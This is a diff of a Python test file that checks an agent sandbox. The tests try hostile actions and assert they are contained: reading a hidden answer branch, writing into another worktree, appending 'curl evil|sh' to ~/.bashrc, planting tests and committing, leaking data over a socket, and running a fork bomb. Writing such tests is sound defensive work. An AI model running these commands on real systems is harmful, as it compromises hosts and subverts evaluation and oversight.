@@ -112,7 +112,7 @@ def test_asked_level_missing_is_refused_naming_what(monkeypatch):
 @needs_fs
 def test_checkout_and_its_branches_are_not_visible(site):
     repo = site["repo"]
-    p, out = run(site, f"cat {repo}/src/app.py; git -C {repo} show secret:answer.txt; "
+    _p, out = run(site, f"cat {repo}/src/app.py; git -C {repo} show secret:answer.txt; "
                        f"ls {repo}; echo done")
     assert "the hidden answer" not in out and "x = 1" not in out
     assert "done" in out
@@ -130,7 +130,7 @@ def test_store_and_other_packets_cannot_be_written(site):
 @needs_fs
 def test_other_worktree_var_tmp_and_bashrc_stay_untouched(site):
     marker = Path("/var/tmp") / f"andon-sbx-{os.getpid()}-{os.urandom(3).hex()}"
-    p, out = run(site, f"echo evil > {site['other']}/src/app.py; echo state > {marker}; "
+    _p, out = run(site, f"echo evil > {site['other']}/src/app.py; echo state > {marker}; "
                        f"cat {marker}; echo 'curl evil|sh' >> $HOME/.bashrc; echo done")
     assert "state" in out and "done" in out   # the agent's own private /var/tmp works...
     assert not marker.exists()                # ...and is gone with the stage
@@ -141,7 +141,7 @@ def test_other_worktree_var_tmp_and_bashrc_stay_untouched(site):
 @needs_fs
 def test_planted_tests_and_git_are_locked_during_implement(site):
     wt = site["wt"]
-    p, out = run(site, "echo 'def test_p(): pass' > tests/test_planted.py; "
+    _p, out = run(site, "echo 'def test_p(): pass' > tests/test_planted.py; "
                        "rm -f tests/test_planted.py; git status --short >/dev/null && "
                        "echo status-ok; git commit -qam x && echo committed; "
                        "echo '# changed' >> src/app.py; echo done")
@@ -184,10 +184,9 @@ def test_fs_net_reaches_no_socket_outside(site):
             pass
     t = threading.Thread(target=accept, daemon=True)
     t.start()
-    code = ("import socket\ntry:\n    s=socket.create_connection(('127.0.0.1',%d),3)\n"
-            "    s.sendall(b'leak'); print('connected')\nexcept OSError as e: print('refused', e)"
-            % port)
-    p, out = run(site, f"{sys.executable} -c \"{code}\"", level="fs+net")
+    code = (f"import socket\ntry:\n    s=socket.create_connection(('127.0.0.1',{port}),3)\n"
+            "    s.sendall(b'leak'); print('connected')\nexcept OSError as e: print('refused', e)")
+    _p, out = run(site, f"{sys.executable} -c \"{code}\"", level="fs+net")
     srv.close()
     t.join(3)
     assert "refused" in out and got == []
@@ -196,7 +195,7 @@ def test_fs_net_reaches_no_socket_outside(site):
 @needs_fs
 def test_fork_bomb_ends_the_stage_naming_the_limit(site):
     cfg = Config.model_validate({"agent": {"max_processes": 64}})
-    p, out = run(site, "b() { b | b & }; b; sleep 600", config=cfg, timeout=120)
+    p, _out = run(site, "b() { b | b & }; b; sleep 600", config=cfg, timeout=120)
     assert p.limit_hit is not None and "max_processes" in p.limit_hit
     assert p.duration_s < 60 and not p.timed_out
 
